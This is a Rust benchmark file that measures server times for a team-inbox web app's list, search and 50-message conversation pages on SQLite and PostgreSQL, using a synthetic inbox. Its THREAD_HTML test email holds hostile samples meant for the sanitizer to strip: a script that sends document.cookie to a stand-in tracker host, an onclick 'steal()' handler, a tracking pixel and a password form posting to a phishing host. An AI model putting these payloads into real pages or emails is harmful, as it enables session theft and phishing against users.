//! Stage 5, the web inbox: server time of the list page and of a
//! 50-message conversation page with a large inbox stored, on SQLite and on
//! PostgreSQL.
//!
//! The inbox is written with SQL in one transaction (set-up, not
//! measured): contacts, conversations over three channels and five users
//! with mixed statuses and assignees, one message and one ticket each, an
//! attachment on every tenth message, and one conversation of 50 messages,
//! some with HTML. The measured path is the real one: requests through
//! `teaminbox_web::router` (tower's `oneshot`, no socket) with a signed-in
//! session's cookie; a request's time runs from the call until the whole
//! body is read, so it holds the session lookup, the store's queries and
//! the rendering.

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use diesel::{connection::SimpleConnection, Connection};
use http_body_util::BodyExt;
use std::{path::Path, time::Instant};
use teaminbox_bench::corpus::{CHANNELS, TEAM};
use teaminbox_store::{config::Config, settings::NewUser, testing::TestDatabase, Store};
use tower::ServiceExt;

/// The issue's target: every page's server time p95 under this.
pub const TARGET_P95_MS: f64 = 50.0;

/// A page stops being requested once its measured requests took this
/// long in all, when it has at least `MIN_REQUESTS` of them.
const PAGE_BUDGET_MS: f64 = 30_000.0;
const MIN_REQUESTS: usize = 20;

/// Messages of the long conversation.
const THREAD_MESSAGES: u64 = 50;

/// One page, as measured on one database.
pub struct Page {
    pub label: &'static str,
    pub url: String,
    /// Server time of each measured request, in milliseconds.
    pub ms: Vec<f64>,
    pub bytes: usize,
}

pub struct Database {
    pub name: &'static str,
    pub build_seconds: f64,
    pub db_bytes: u64,
    pub pages: Vec<Page>,
}

pub struct Results {
    pub conversations: u64,
    pub contacts: u64,
    pub requests: usize,
    pub warmup: usize,
    pub databases: Vec<Database>,
    pub seconds: f64,
    pub load_before: (f64, f64, f64),
    pub load_after: (f64, f64, f64),
}

pub fn run(work: &Path, conversations: u64, requests: usize) -> Results {
    let started = Instant::now();
    let load_before = teaminbox_bench::system::load_average();
    let contacts = (conversations / 5).clamp(1, 200_000);
    let warmup = (requests / 10).max(2);
    let mut databases = Vec::new();

    let dir = tempfile::Builder::new()
        .prefix("web-")
        .tempdir_in(work)
        .expect("SQLite directory");
    let sqlite = TestDatabase::existing(&format!(
        "sqlite://{}",
        dir.path().join("teaminbox.db").display()
    ));
    let postgres = TestDatabase::postgres();
    for (name, db) in [("SQLite", &sqlite), ("PostgreSQL", &postgres)] {
        let dialect = if name == "SQLite" {
            Dialect::Sqlite
        } else {
            Dialect::Postgres
        };
        eprintln!("bench: web, {name}: storing {conversations} conversations");
        let store = Store::from_url(&db.url).expect("store");
        store.migrate().expect("migrate");
        let t = Instant::now();
        let user = setup(&store);
        fill(&db.url, dialect, conversations, contacts);
        let build_seconds = t.elapsed().as_secs_f64();
        let db_bytes = dialect.size(&db.url);
        eprintln!(
            "bench: web, {name}: built in {build_seconds:.1} s ({} MB); measuring",
            db_bytes / 1_000_000
        );
        let pages = measure(&store, user, conversations, contacts, requests, warmup);
        for p in &pages {
            eprintln!(
                "bench: web, {name}, {}: median {:.2} ms, p95 {:.2} ms",
                p.label,
                teaminbox_bench::stats::median(&p.ms),
                teaminbox_bench::stats::percentile(&p.ms, 95.0)
            );
        }
        databases.push(Database {
            name,
            build_seconds,
            db_bytes,
            pages,
        });
    }
    Results {
        conversations,
        contacts,
        requests,
        warmup,
        databases,
        seconds: started.elapsed().as_secs_f64(),
        load_before,
        load_after: teaminbox_bench::system::load_average(),
    }
}

/// Five users (the first one signs in) and three channels, through the
/// store; their ids are 1 to 5 and 1 to 3, which `fill` relies on.
fn setup(store: &Store) -> i64 {
    let settings = store.settings();
    let ids: Vec<i64> = TEAM
        .iter()
        .map(|(email, first, last)| {
            settings
                .add_user(&NewUser {
                    email,
                    first_name: first,
                    last_name: last,
                    username: first,
                })
                .expect("add user")
                .id
        })
        .collect();
    assert_eq!(ids, [1, 2, 3, 4, 5], "user ids in order");
    for (i, address) in CHANNELS.iter().enumerate() {
        let id = crate::common::ensure_channel(store, address, &format!("Acme {i}"));
        assert_eq!(id, i as i64 + 1, "channel ids in order");
    }
    ids[0]
}

#[derive(Clone, Copy)]
enum Dialect {
    Sqlite,
    Postgres,
}

impl Dialect {
    /// `insert` filled from `select` for each `i` in 1..=count.
    fn series(self, count: u64, insert: &str, select: &str) -> String {
        match self {
            Dialect::Sqlite => format!(
                "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {count})
                 {insert} SELECT {select} FROM n;\n"
            ),
            Dialect::Postgres => format!(
                "{insert} SELECT {select} FROM generate_series(1::bigint, {count}) AS n(i);\n"
            ),
        }
    }

    /// The time `seconds` (an SQL expression) after the inbox's start.
    fn at(self, seconds: &str) -> String {
        match self {
            Dialect::Sqlite => {
                format!("datetime('2024-01-01 00:00:00', '+' || ({seconds}) || ' seconds')")
            }
            Dialect::Postgres => {
                format!("(TIMESTAMP '2024-01-01 00:00:00' + ({seconds}) * INTERVAL '1 second')")
            }
        }
    }

    fn blob(self, bytes: usize) -> String {
        match self {
            Dialect::Sqlite => format!("zeroblob({bytes})"),
            Dialect::Postgres => format!("decode(repeat('00', {bytes}), 'hex')"),
        }
    }

    fn size(self, url: &str) -> u64 {
        match self {
            Dialect::Sqlite => {
                std::fs::metadata(url.trim_start_matches("sqlite://")).map_or(0, |m| m.len())
            }
            Dialect::Postgres => crate::common::pg_text(
                url,
                "SELECT pg_database_size(current_database())::text AS v",
            )
            .parse()
            .unwrap_or(0),
        }
    }
}

/// The inbox: `contacts` contacts, `n` conversations (id i: channel
/// 1 + i % 3; a tenth open, a fiftieth spam, the rest closed; open and
/// closed ones assigned to one of the five users or to nobody by turns;
/// activity spread over a year and not in id order), one message and one
/// ticket each, an attachment on every tenth message; then conversation
/// n + 1 with 50 messages, in and out by turns, every fifth with HTML.
fn fill(url: &str, d: Dialect, n: u64, contacts: u64) {
    let created = d.at("i * 30");
    let active = d.at("i * 30 + (i * 7919) % 604800");
    let mut sql = String::new();
    sql.push_str(&d.series(
        contacts,
        "INSERT INTO contacts (id, address, name, created_at)",
        &format!("i, 'customer' || i || '@example.com', 'Customer ' || i, {created}"),
    ));
    let assignee = "CASE WHEN i % 50 = 7 OR (i / 10) % 6 = 0 THEN NULL ELSE (i / 10) % 6 END";
    sql.push_str(&d.series(
        n,
        "INSERT INTO conversations (id, channel_id, contact_id, subject, status, kind, \
         assignee_user_id, created_at, last_message_at)",
        &format!(
            "i, 1 + i % 3, 1 + i % {contacts}, 'Question about order ' || i,
             CASE WHEN i % 50 = 7 THEN 'spam' WHEN i % 10 = 0 THEN 'open' ELSE 'closed' END,
             'normal', {assignee}, {created}, {active}"
        ),
    ));
    sql.push_str(&d.series(
        n,
        "INSERT INTO messages (id, conversation_id, channel_id, direction, dedupe_key, \
         message_id_header, from_address, from_name, subject, text_body, sent_at, decisions, created_at)",
        &format!(
            "i, i, 1 + i % 3, 'in', 'mid:bg-' || i || '@example.net', 'bg-' || i || '@example.net',
             'customer' || (1 + i % {contacts}) || '@example.com', 'Customer ' || (1 + i % {contacts}),
             'Question about order ' || i,
             'Hello, where is my order ' || i || '? It was due last week. Regards',
             {active}, '[\"New conversation: no earlier message of this thread.\"]', {active}"
        ),
    ));
    sql.push_str(&d.series(
        n,
        "INSERT INTO tickets (id, conversation_id, name, properties, owner_user_id, created_at)",
        &format!("i, i, 'Question about order ' || i, '{{}}', {assignee}, {created}"),
    ));
    sql.push_str(&d.series(
        n / 10,
        "INSERT INTO attachments (id, message_id, filename, content_type, size, inline, content)",
        &format!(
            "i, i * 10 - 3, 'invoice-' || i || '.pdf', 'application/pdf', 600, FALSE, {}",
            d.blob(600)
        ),
    ));
    sql.push_str(&long_conversation(d, n));
    if let Dialect::Postgres = d {
        for table in [
            "contacts",
            "conversations",
            "messages",
            "tickets",
            "attachments",
        ] {
            sql.push_str(&format!(
                "SELECT setval(pg_get_serial_sequence('{table}', 'id'), (SELECT MAX(id) FROM {table}));\n"
            ));
        }
    }
    match d {
        Dialect::Sqlite => {
            let path = url.trim_start_matches("sqlite://");
            let mut conn = diesel::sqlite::SqliteConnection::establish(path).expect("open SQLite");
            conn.batch_execute(&format!(
                "PRAGMA synchronous = OFF; PRAGMA cache_size = -262144; BEGIN;\n{sql}COMMIT;
                 PRAGMA wal_checkpoint(TRUNCATE);"
            ))
            .expect("fill the SQLite inbox");
        }
        Dialect::Postgres => {
            let mut conn = diesel::pg::PgConnection::establish(url).expect("connect");
            conn.batch_execute(&format!("BEGIN;\n{sql}COMMIT;"))
                .expect("fill the PostgreSQL inbox");
            // Autovacuum would do this within a minute or so of the load;
            // the benchmark does not wait for it. (VACUUM runs alone: not
            // in a multi-statement string.)
            conn.batch_execute("VACUUM ANALYZE")
                .expect("VACUUM ANALYZE");
        }
    }
}

/// Conversation `n + 1`: open, assigned to the first user, 50 messages.
fn long_conversation(d: Dialect, n: u64) -> String {
    let id = n + 1;
    let start = n * 30 + 10;
    let mut sql = format!(
        "INSERT INTO conversations (id, channel_id, contact_id, subject, status, kind, \
         assignee_user_id, created_at, last_message_at)
         VALUES ({id}, 1, 1, 'A long thread: fifty messages', 'open', 'normal', 1, {}, {});\n",
        d.at(&start.to_string()),
        d.at(&(start + 3600 * THREAD_MESSAGES).to_string()),
    );
    let html = THREAD_HTML.replace('\'', "''");
    sql.push_str(&d.series(
        THREAD_MESSAGES,
        "INSERT INTO messages (id, conversation_id, channel_id, direction, dedupe_key, \
         message_id_header, from_address, from_name, subject, text_body, html_body, sent_at, \
         decisions, created_at, user_id)",
        &format!(
            "{n} + i, {id}, 1, CASE WHEN i % 2 = 0 THEN 'out' ELSE 'in' END,
             'mid:thread-' || i || '@example.net', 'thread-' || i || '@example.net',
             CASE WHEN i % 2 = 0 THEN 'ana@acme.example' ELSE 'customer1@example.com' END,
             CASE WHEN i % 2 = 0 THEN 'Ana Silva' ELSE 'Customer 1' END,
             'Re: A long thread: fifty messages', '{text}',
             CASE WHEN i % 5 = 0 THEN '{html}' ELSE NULL END, {at},
             '[\"Thread: In-Reply-To names an earlier message of this conversation.\"]', {at},
             CASE WHEN i % 2 = 0 THEN 1 ELSE NULL END",
            text = THREAD_TEXT.replace('\'', "''"),
            at = d.at(&format!("{start} + i * 3600")),
        ),
    ));
    sql
}

/// The text of each message of the long conversation (about 1.2 KB).
const THREAD_TEXT: &str = "Hello,

thank you for your message. We looked at the order again and found that \
the parcel left our warehouse on Monday; the carrier's tracking shows it \
in the regional depot since Wednesday. Deliveries from that depot take one \
or two working days, so it should reach you by Friday.

If it has not arrived by then, reply to this message and we will send a \
replacement at once, or refund the order if you prefer. You do not need \
to return anything.

The invoice is attached to the first message of this conversation; your \
customer number and the order number are in its top right corner. Quote \
either of them if you call us.

> On Tuesday you wrote:
> I ordered three weeks ago and the tracking page has not changed for a
> week. Can you tell me where the parcel is? I need it before the
> weekend.

Kind regards,
The support team";

/// The HTML body of every fifth message (about 2 KB): styles, a table,
/// links, a remote image and a script for the sanitizer to remove.
const THREAD_HTML: &str = r#"<!DOCTYPE html><html><head><meta charset="utf-8">
<style>body { font-family: sans-serif } .total { font-weight: bold }</style>
<script>document.location = "https://tracker.example.net/?c=" + document.cookie;</script>
</head><body>
<p>Hello,</p>
<p>thank you for your message. Here is the state of your order:</p>
<table border="1" cellpadding="4">
<tr><th>Item</th><th>Quantity</th><th>Price</th></tr>
<tr><td>Blue widget</td><td>2</td><td>19.90 EUR</td></tr>
<tr><td>Red widget</td><td>1</td><td>9.95 EUR</td></tr>
<tr class="total"><td colspan="2">Total</td><td>49.75 EUR</td></tr>
</table>
<p>Track the parcel <a href="https://carrier.example.com/track?id=123456789" onclick="steal()">on the carrier's page</a>.</p>
<img src="https://tracker.example.net/pixel.gif?u=customer1" width="1" height="1">
<p style="color: #555">Kind regards,<br>The support team</p>
<form action="https://phish.example.net/login"><input name="password"></form>
</body></html>"#;

/// The pages measured, by turns, each `requests` times after `warmup`
/// turns; each response is checked once first.
fn measure(
    store: &Store,
    user: i64,
    conversations: u64,
    contacts: u64,
    requests: usize,
    warmup: usize,
) -> Vec<Page> {
    let session = store.accounts().start_session(user).expect("session");
    let cookie = format!("{}={}", teaminbox_web::SESSION_COOKIE, session.token);
    let deep = conversations / 2;
    let deep_at = store
        .views()
        .conversation(deep as i64)
        .expect("the deep page's key")
        .last_message_at;
    let contact = 1 + 4321 % contacts;
    // (label, URL, text each response must hold)
    let plan: Vec<(&'static str, String, String)> = vec![
        ("list, all", "/?status=all".into(), "rel=\"next\"".into()),
        (
            "list, open (the default)",
            "/".into(),
            "rel=\"next\"".into(),
        ),
        (
            "list, mine (open, assigned to the user)",
            "/?status=open&assigned=me".into(),
            "ana@acme.example</td>".into(),
        ),
        (
            "list, unassigned (open)",
            "/?status=open&assigned=unassigned".into(),
            "unassigned</td>".into(),
        ),
        (
            "list, all, a deep page (keyset, half way)",
            format!(
                "/?status=all&after={}.{deep}",
                deep_at.and_utc().timestamp_micros()
            ),
            "rel=\"next\"".into(),
        ),
        (
            "search, all, a contact's address (few matches)",
            format!("/?status=all&q=customer{contact}%40example.com"),
            format!("customer{contact}@example.com"),
        ),
        (
            "search, all, a subject's words (many matches)",
            "/?status=all&q=order+99".into(),
            "rel=\"next\"".into(),
        ),
        (
            "conversation of 50 messages",
            format!("/conversations/{}", conversations + 1),
            "/html\"".into(),
        ),
    ];
    let mut config = Config::default();
    config.outbound.default_from_domain = "inbox.example.com".into();
    let router = teaminbox_web::router(store.clone(), &config);
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    runtime.block_on(async {
        let get = |url: String| {
            let request = Request::get(url)
                .header(header::COOKIE, &cookie)
                .body(Body::empty())
                .expect("request");
            let router = router.clone();
            async move {
                let t = Instant::now();
                let response = router.oneshot(request).await.expect("infallible");
                let status = response.status();
                let body = response
                    .into_body()
                    .collect()
                    .await
                    .expect("body")
                    .to_bytes();
                (t.elapsed().as_secs_f64() * 1000.0, status, body)
            }
        };
        let mut pages: Vec<Page> = Vec::new();
        for (label, url, expected) in &plan {
            let (_, status, body) = get(url.clone()).await;
            let text = String::from_utf8_lossy(&body);
            assert_eq!(status, StatusCode::OK, "{label}: {url}: {text}");
            assert!(
                text.contains(expected.as_str()),
                "{label}: {url}: the page lacks {expected:?}"
            );
            if label.starts_with("conversation") {
                let shown = text.matches("<article class=\"message").count();
                assert_eq!(shown, THREAD_MESSAGES as usize, "{label}: messages shown");
            }
            pages.push(Page {
                label,
                url: url.clone(),
                ms: Vec::with_capacity(requests),
                bytes: body.len(),
            });
        }
        for turn in 0..warmup + requests {
            for page in pages.iter_mut() {
                // A page far over the target has made its point: fewer
                // requests keep the stage short.
                if page.ms.len() >= MIN_REQUESTS && page.ms.iter().sum::<f64>() > PAGE_BUDGET_MS {
                    continue;
                }
                let (ms, status, _) = get(page.url.clone()).await;
                assert_eq!(status, StatusCode::OK, "{}", page.label);
                if turn >= warmup {
                    page.ms.push(ms);
                }
            }
        }
        pages
    })
}
